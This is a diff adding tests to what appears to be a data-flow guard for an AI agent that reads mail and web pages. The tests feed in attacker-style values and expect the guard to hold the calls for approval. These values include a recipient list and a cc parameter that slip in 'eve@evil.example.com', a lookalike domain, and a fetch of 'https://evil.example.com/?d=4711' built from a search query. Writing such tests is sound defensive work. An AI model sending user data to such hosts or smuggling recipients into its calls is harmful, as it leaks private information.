@@ -160,6 +160,23 @@ describe('the rules of an agent', () => {
 		expect(left.map(({ tool }) => tool)).toEqual(['send_mail', 'publish']);
 	});
 
+	test.each([
+		['kim@mail.example.com', 'completed'],
+		['kim@mail.example.com, eve@evil.example.com,kim@mail.example.com', 'awaiting_tools'],
+		['eve@evil.example.com?cc=kim@mail.example.com', 'awaiting_tools'],
+		['kim@not-mail.example.com', 'awaiting_tools'],
+	])('the domain of a mail address may be a target: %s', async (to, status) => {
+		const id = await create('flow-free');
+		play(learn, readMail, mail(to), 'Done.');
+		expect(await say(id)).toMatchObject({ status });
+	});
+
+	test('a call that sends nowhere runs', async () => {
+		const id = await create('flow-free');
+		play(learn, readMail, call('add_entry', { guests: [] }), call('add_entry', { guests: ['eve'] }, 'second'));
+		expect(await say(id)).toMatchObject({ status: 'awaiting_tools', toolCalls: [{ id: 'second' }] });
+	});
+
 	test('a tool may be refused while the others wait', async () => {
 		const id = await create('flow-free');
 		play(learn, readMail, call('pay', { account: '666' }), 'I may not pay.');
@@ -208,6 +225,16 @@ describe('an address', () => {
 			expect(await say(id, `Read ${page}.`)).toMatchObject({ status: 'awaiting_tools' });
 		},
 	);
+
+	test('that a search repeats from its query counts as composed', async () => {
+		const id = await create();
+		const evil = 'https://evil.example.com/?d=4711';
+		play(fetchPage(page), learn, call('search_mail', { query: evil }), fetchPage(evil));
+		expect(await say(id, `Read ${page}.`)).toMatchObject({
+			status: 'awaiting_tools',
+			toolCalls: [{ name: 'web_fetch', flow: { targets: [evil] } }],
+		});
+	});
 
 	test('in the report of another agent counts as composed', async () => {
 		const id = await create();
